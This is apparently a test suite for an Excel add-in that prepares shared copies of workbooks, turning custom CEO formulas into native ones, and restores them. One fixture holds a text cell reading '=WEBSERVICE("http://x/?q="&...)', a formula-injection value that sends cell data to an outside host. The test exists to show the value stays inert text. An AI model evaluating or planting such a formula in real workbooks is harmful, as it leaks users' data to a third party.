      assertAgree(`Net row ${r}`, e.evaluate(cells(row[netAt] as string)), viaWrapper(() => net(gross, before, schedules[agreement] as any)), "exact");
    }
    // Terms was not chosen: the copy reads it, and the details say so, cell by cell, through which names.
    assert.ok(!book.sheets.has("Terms (shared)"));
    assert.ok(result.details.some((d) => /^"Placements \(shared\)" [A-Z]+2, .* read "Terms" through the names Sales_Schedule \(Terms!\$A\$13:\$B\$15\), .*Settlement_Cycle \(Terms!\$B\$7\), .*which is not one of the shared copies/.test(d)), result.details.join("\n"));
  });

  it("the same Placements table prepared with its Terms sheet: Fee and Net read 'Terms (shared)', no original sheet", async () => {
    const book = new FakeWorkbook();
    const statement = planImport(fs.readFileSync(path.resolve(__dirname, "../../examples/neot-2001-agent-statement.csv"), "utf8"));
    await writeTermsSheet(book.run, SEED_TERMS);
    await applyPlan(book.run, statement.rows, { terms: SEED_TERMS });
    const result = await prepareForSharing(book.run);
    assert.ok(result.ok, result.message);
    assert.ok(book.sheets.has("Terms (shared)"));
    assert.ok(result.details.includes('"Terms (shared)": no CEO formulas; copied because the other copies read it.'), result.details.join("\n"));
    assert.ok(!result.details.some((d) => /not one of the shared copies|the original sheet/.test(d)), result.details.join("\n"));
    const copy = sheetRows(book, "Placements (shared)");
    const [feeAt, netAt] = ["Fee", "Net"].map((h) => HEADERS.indexOf(h)) as [number, number];
    for (let r = 1; r < copy.length && typeof copy[r]![feeAt] === "string"; r++) {
      for (const at of [feeAt, netAt]) {
        const formula = String(copy[r]![at]);
        // Net reads the row's Fee (NET beside FEE of the same arguments): the schedule only through it.
        if (at === netAt) assert.strictEqual(formula, "=IF(ISNUMBER([@[Fee]]),ROUND((--[@Gross])-[@[Fee]],2),[@[Fee]])", `row ${r}`);
        else assert.match(formula, /^=IF\(.*'Terms \(shared\)'!\$A\$\d+/, `row ${r}`);
        assert.ok(!/(^|[^'])Terms!|CEO\.|_Schedule/.test(formula), `row ${r}: ${formula}`);
      }
    }
  });
});

/** A Terms sheet with the sales schedule at A13:B15 and its workbook name; a Deal sheet whose fee reads it by name. */
function termsDealBook(): FakeWorkbook {
  const book = new FakeWorkbook();
  const terms = book.addSheet("Terms");
  terms.rows = [["Deal terms"], ...Array.from({ length: 11 }, () => []), [0, 0.04], [10_000_000, 0.035], [20_000_000, 0.03]];
  book.names.set("Sales_Schedule", "=Terms!$A$13:$B$15");
  const deal = book.addSheet("Deal");
  deal.rows = [[null, null, null, "Gross", "Fee"], [null, null, null, 5_000_000, "=CEO.FEE(D2,,Sales_Schedule)"]];
  deal.values = [[], [null, null, null, 5_000_000, 200_000]];
  return book;
}

describe("shareApply: a workbook name into a copied sheet", () => {
  it("preparing Terms and Deal: the copy's native formula reads 'Terms (shared)', computing the add-in's figure", async () => {
    const book = termsDealBook();
    const result = await prepareForSharing(book.run);
    assert.ok(result.ok, result.message);
    const formula = String(book.cell("Deal (shared)", "E2").formula);
    assert.match(formula, /'Terms \(shared\)'!\$A\$13/);
    assert.ok(!/(^|[^'])Terms!/.test(formula), formula);
    assert.deepStrictEqual(sheetRows(book, "Terms (shared)").slice(12, 15), sheetRows(book, "Terms").slice(12, 15));
    assert.ok(result.details.includes('"Terms (shared)": no CEO formulas; copied because the other copies read it.'), result.details.join("\n"));
    assert.ok(!result.details.some((d) => /"Terms"/.test(d) && !/^"Terms \(shared\)"/.test(d)), result.details.join("\n"));
    // Only the copy of Terms in the engine: a formula still reading "Terms" would be an error there.
    const e = new Engine();
    e.hf.addSheet("Terms (shared)");
    e.hf.setCellContents({ sheet: e.hf.getSheetId("Terms (shared)")!, row: 12, col: 0 }, [[0, 0.04], [10_000_000, 0.035], [20_000_000, 0.03]]);
    e.set(1, 3, [[5_000_000]]);
    assertAgree("E2", e.evaluate(formula), viaWrapper(() => fee(5_000_000)), "exact");
    // Restore removes both copies, naming them.
    assert.match((await restoreFormulas(book.run)).message, /^Removed the shared copies "Terms \(shared\)" and "Deal \(shared\)", and the add-in's sheet "CEO Originals"\. The original sheets "Terms" and "Deal" keep their CEO formulas\./);
    assert.deepStrictEqual(book.snapshot(), termsDealBook().snapshot());
  });

  it("preparing only Deal: the details list that the copy depends on \"Terms\" through Sales_Schedule", async () => {
    const book = termsDealBook();
    const result = await prepareForSharing(book.run, { sheets: ["Deal"] });
    assert.ok(result.ok, result.message);
    assert.ok(!book.sheets.has("Terms (shared)"));
    assert.match(String(book.cell("Deal (shared)", "E2").formula), /Terms!\$A\$13/);
    assert.ok(
      result.details.includes('"Deal (shared)" E2 reads "Terms" through the name Sales_Schedule (Terms!$A$13:$B$15), which is not one of the shared copies: the copies depend on it, and sent without it they would link back to this workbook. Prepare "Terms" with them (not only the active sheet; unhide it if hidden), or send the whole workbook.'),
      result.details.join("\n"),
    );
  });

  it("a cell Excel refuses keeps its value, and then depends on nothing: it is not listed", async () => {
    const book = termsDealBook();
    book.refuses = (formula) => (formula.includes("Terms!") ? "refused" : undefined);
    const result = await prepareForSharing(book.run, { sheets: ["Deal"] });
    assert.ok(result.ok, result.message);
    assert.strictEqual(book.cell("Deal (shared)", "E2").formula, 200_000);
    assert.ok(!result.details.some((d) => /reads "Terms"/.test(d)), result.details.join("\n"));
  });

  it("a failure at any request of Prepare, copying Terms with Deal, leaves the workbook as it was", async () => {
    const probe = termsDealBook();
    assert.ok((await prepareForSharing(probe.run)).ok);
    for (let k = 1; k <= probe.requests; k++) {
      const book = termsDealBook();
      const before = book.snapshot();
      book.failAtRequest = k;
      await assert.rejects(prepareForSharing(book.run), /injected failure/, `request ${k}`);
      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${probe.requests} left a change`);
    }
  });

  it("a name of the Deal sheet itself hides the workbook's: the copy reads its own cells, and Terms is not copied", async () => {
    const book = termsDealBook();
    const deal = book.sheets.get("Deal")!;
    deal.names = new Map([["Sales_Schedule", "=Deal!$H$1:$I$3"]]);
    deal.rows[0]!.push(null, null, 0, 0.05);
    const result = await prepareForSharing(book.run);
    assert.ok(result.ok, result.message);
    assert.match(String(book.cell("Deal (shared)", "E2").formula), /'Deal \(shared\)'!\$H\$1/);
    assert.ok(!book.sheets.has("Terms (shared)"));
    assert.ok(result.details.includes('"Terms" has no CEO formulas: not copied.'), result.details.join("\n"));
  });
});

/** Writes cells through the API, as the import and the analyst do: "'..." is text (Excel's quote prefix). */
async function enter(book: FakeWorkbook, sheet: string, address: string, contents: unknown[][]): Promise<void> {
  await book.run(async (context) => {
    context.workbook.worksheets.getItem(sheet).getRange(address).values = contents;
    await context.sync();
  });
}

/** The deal sheet with a Notes column the import wrote as text, and a CEO formula kept by its value whose value is text. */
async function notesBook(): Promise<FakeWorkbook> {
  const book = dealBook();
  await enter(book, "Deal", "K1:K3", [["Notes"], ['\'=WEBSERVICE("http://x/?q="&Deal!C2)'], ["'=CEO.FEE(1)"]]);
  const deal = book.sheets.get("Deal")!;
  // No native formula (a name for the schedule): the copy keeps what the cell shows, the text "06560".
  deal.rows[2]![7] = '=TEXT(CEO.FEE(C3,,Tiers),"00000")';
  deal.values![2]![7] = "06560";
  return book;
}

describe("shareApply: text stays text, in the copy, on the originals sheet and back", () => {
  it("Prepare leaves a Notes cell holding =WEBSERVICE(...) or =CEO.FEE(1) as text, and keeps a text value as text", async () => {
    const book = await notesBook();
    const result = await prepareForSharing(book.run, { now: new Date("2026-01-05T12:00:00Z") });
    assert.ok(result.ok, result.message);
    assert.match(result.message, /5 CEO formulas now native, 1 kept as values/);
    for (const [address, text] of [["K2", '=WEBSERVICE("http://x/?q="&Deal!C2)'], ["K3", "=CEO.FEE(1)"], ["H3", "06560"]] as const) {
      const cell = book.cell("Deal (shared)", address);
      assert.deepStrictEqual([cell.isFormula, cell.formula, cell.value], [false, text, text], address);
    }
    assert.ok(!book.sheets.get(ORIGINALS_SHEET)!.rows.some((r) => r?.[1] === "K2" || r?.[1] === "K3"), "text cells are not recorded: nothing was changed there");
    // Restore gives back the formula (the original gone, to the copy), the text cells untouched.
    dropOriginal(book, "Deal");
    assert.match((await restoreFormulas(book.run)).message, /Restored 8 cells on 1 sheet/);
    assert.deepStrictEqual(["K2", "K3"].map((a) => book.cell("Deal (shared)", a).isFormula), [false, false]);
    assert.deepStrictEqual(book.cell("Deal (shared)", "H3").formula, '=TEXT(CEO.FEE(C3,,Tiers),"00000")');
  });

  it("a failure at any request of Restore, after a Prepare that kept text, leaves the workbook as it was", async () => {
    const setUp = async () => {
      const book = await notesBook();
      await prepareForSharing(book.run);
      dropOriginal(book, "Deal");
      book.requests = 0;
      return book;
    };
    const probe = await setUp();
    await restoreFormulas(probe.run, { chunkBytes: 300 });
    for (let k = 1; k < probe.requests; k++) {
      const book = await setUp();
      const before = book.snapshot();
      book.failAtRequest = k;
      await assert.rejects(restoreFormulas(book.run, { chunkBytes: 300 }), /injected failure/);
      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${probe.requests} left a change`);
    }
  });

  it("a failure at any request of Restore puts back what the copy held: text that reads like a formula or a number stays text", async () => {
    // The copy as Prepare leaves it: kept values that are text ("06560", "=CEO.FEE(1)"), a native formula; their originals recorded.
    const setUp = async () => {
      const book = new FakeWorkbook();
      book.addSheet("Deal (shared)");
      book.addSheet(ORIGINALS_SHEET);
      await enter(book, "Deal (shared)", "A1:D1", [[5_000_000, "'06560", "'=CEO.FEE(1)", "=A1*0.04"]]);
      await enter(book, ORIGINALS_SHEET, "A1:C4", [
        ["Sheet", "Cell", "Formula"],
        ["'Deal (shared)", "'B1", `'=TEXT(CEO.FEE(A1,,Tiers),"00000")`],
        ["'Deal (shared)", "'C1", `'=IF(A1>0,"=CEO.FEE(1)",CEO.FEE(A1,,Tiers))`],
        ["'Deal (shared)", "'D1", "'=CEO.FEE(A1)"],
      ]);
      book.requests = 0;
      return book;
    };
    const probe = await setUp();
    assert.match((await restoreFormulas(probe.run, { chunkBytes: 60 })).message, /Restored 3 cells/);
    assert.ok(probe.requests >= 4, `${probe.requests} requests`);
    for (let k = 1; k < probe.requests; k++) {
      const book = await setUp();
      const before = book.snapshot();
      book.failAtRequest = k;
      await assert.rejects(restoreFormulas(book.run, { chunkBytes: 60 }), /injected failure/);
      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${probe.requests} left a change`);
    }
  });

  it("Restore writes a recorded entry that is not a formula (an older or edited record) as the text it is", async () => {
    const book = dealBook();
    await prepareForSharing(book.run, { sheets: ["Deal"] });
    const originals = book.sheets.get(ORIGINALS_SHEET)!;
    const at = originals.rows.findIndex((r) => r?.[1] === "L1");
    await enter(book, ORIGINALS_SHEET, `C${at + 1}`, [["'00123"]]);
    dropOriginal(book, "Deal");
    assert.ok((await restoreFormulas(book.run)).ok);
    const cell = book.cell("Deal (shared)", "L1");
    assert.deepStrictEqual([cell.isFormula, cell.value], [false, "00123"]);
  });
});

describe("shareApply: Prepare and Excel's calculation", () => {
  let putBack: (() => void) | undefined;
  afterEach(() => {
    putBack?.();
    putBack = undefined;
  });

  it("refuses a workbook in manual calculation, saying how to switch; nothing changed", async () => {
    const book = dealBook();
    book.calculationMode = "Manual";
    const before = book.snapshot();
    const result = await prepareForSharing(book.run);
    assert.strictEqual(result.ok, false);
    assert.match(result.message, /calculates this workbook manually.*Formulas > Calculation Options > Automatic.*Nothing was changed\./);
    assert.deepStrictEqual(book.snapshot(), before);
  });

  it("waits for a calculation to finish (ExcelApi 1.9), then prepares", async () => {
    const book = dealBook();
    putBack = book.installOffice({ ExcelApi: "1.9" });
    book.calculationState = ["Calculating", "Pending", "Calculating", "Done"];
    const result = await prepareForSharing(book.run, { calculationWait: { looks: 10, delayMs: 1 } });
    assert.ok(result.ok, result.message);
    assert.deepStrictEqual(book.calculationState, ["Done"]);
  });

  it("refuses a workbook that keeps calculating, or has changes pending; nothing changed", async () => {
    for (const state of ["Calculating", "Pending"]) {
      const book = dealBook();
      putBack = book.installOffice({ ExcelApi: "1.9" });
      book.calculationState = state;
      const before = book.snapshot();
      const result = await prepareForSharing(book.run, { calculationWait: { looks: 3, delayMs: 1 } });
      putBack();
      assert.strictEqual(result.ok, false);
      assert.strictEqual(result.message, `Excel is still calculating (${state}): the values Prepare would keep are not final yet. Wait until the status bar no longer shows "Calculating", then prepare again. Nothing was changed.`);
      assert.deepStrictEqual(book.snapshot(), before);
    }
  });

  it("below ExcelApi 1.9 the state is not asked for (the host has no such property)", async () => {
    const book = dealBook();
    putBack = book.installOffice({ ExcelApi: "1.8" });
    book.calculationState = "Calculating"; // unknowable here: an automatic workbook is taken as calculated
    assert.ok((await prepareForSharing(book.run)).ok);
  });
});

describe("shareApply: values Excel takes, formulas Excel refuses", () => {
  it("a kept #SPILL! is written =NA() (no #SPILL! literal in a formula), the details naming the error", async () => {
    const book = dealBook();
    const deal = book.sheets.get("Deal")!;
    deal.values![2]![7] = "#SPILL!";
    deal.values![1]![9] = "#CALC!"; // J2 =SUM(F2:F3): a plain formula, untouched
    const result = await prepareForSharing(book.run);
    assert.ok(result.ok, result.message);
    assert.strictEqual(book.cell("Deal (shared)", "H3").formula, "=NA()");
    assert.ok(result.details.some((d) => /H3: value kept \(CEO.FEE: schedule .*; it showed #SPILL!, written as =NA\(\): Excel takes no #SPILL! typed in a formula\)/.test(d)), result.details.join("\n"));
    assert.strictEqual(book.cell("Deal (shared)", "J2").formula, "=SUM(F2:F3)");
  });

  it("a native formula nesting functions over 64 levels keeps the cell's value instead of failing the command", async () => {
    const book = dealBook();
    const deal = book.sheets.get("Deal")!;
    deal.rows[1]![10] = `=${"ABS(".repeat(62)}CEO.FEE(C2)${")".repeat(62)}`;
    deal.values![1]![10] = 8080;
    const result = await prepareForSharing(book.run);
    assert.ok(result.ok, result.message);
    assert.strictEqual(book.cell("Deal (shared)", "K2").formula, 8080);
    assert.ok(result.details.some((d) => /K2: value kept \(the native formula nests functions 67 levels deep: Excel takes 64\)/.test(d)), result.details.join("\n"));
  });

  it("a formula Excel refuses when written (its internal length) is retried cell by cell: that cell keeps its value, the others are native", async () => {
    const book = dealBook();
    book.refuses = (formula) => (formula.includes("'CEO Holidays'!") ? "the formula is too long in Excel's internal form" : undefined);
    const result = await prepareForSharing(book.run, { now: new Date("2026-01-05T12:00:00Z") });
    assert.ok(result.ok, result.message);
    assert.match(result.message, /Prepared 1 shared copy: 3 CEO formulas now native, 3 kept as values/);
    assert.deepStrictEqual(["G2", "G3"].map((a) => book.cell("Deal (shared)", a).formula), [37201, 37202]);
    assert.match(String(book.cell("Deal (shared)", "F2").formula), /^=IF\(OR\(0\*\(IF\(C2="",0,--C2\)\+IF\(D2="",0,--D2\)\),C2="",ISLOGICAL\(C2\),/);
    assert.ok(result.details.some((d) => /"Deal \(shared\)" G2: value kept \(Excel refused the native formula: .*too long in Excel's internal form\)/.test(d)), result.details.join("\n"));
    assert.match(String(book.cell("Deal (shared)", "L1").value), /3 CEO formulas replaced by native Excel formulas, 3 by their values/);
    // Restore knows those cells too.
    dropOriginal(book, "Deal");
    assert.match((await restoreFormulas(book.run)).message, /Restored 8 cells/);
    assert.strictEqual(book.cell("Deal (shared)", "G2").formula, "=CEO.SETTLE(A2)");
  });

  it("any other failure, also while refused cells are written again, still fails the command and undoes it", async () => {
    const setUp = () => {
      const book = dealBook();
      book.refuses = (formula) => (formula.includes("'CEO Holidays'!") ? "refused" : undefined);
      return book;
    };
    const probe = setUp();
    assert.ok((await prepareForSharing(probe.run, { chunkBytes: 2000 })).ok);
    assert.ok(probe.requests >= 12, `${probe.requests} requests`);
    for (let k = 1; k <= probe.requests; k++) {
      const book = setUp();
      const before = book.snapshot();
      book.failAtRequest = k;
      await assert.rejects(prepareForSharing(book.run, { chunkBytes: 2000 }), /injected failure/, `request ${k}`);
      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${probe.requests} left a change`);
    }
  });
});

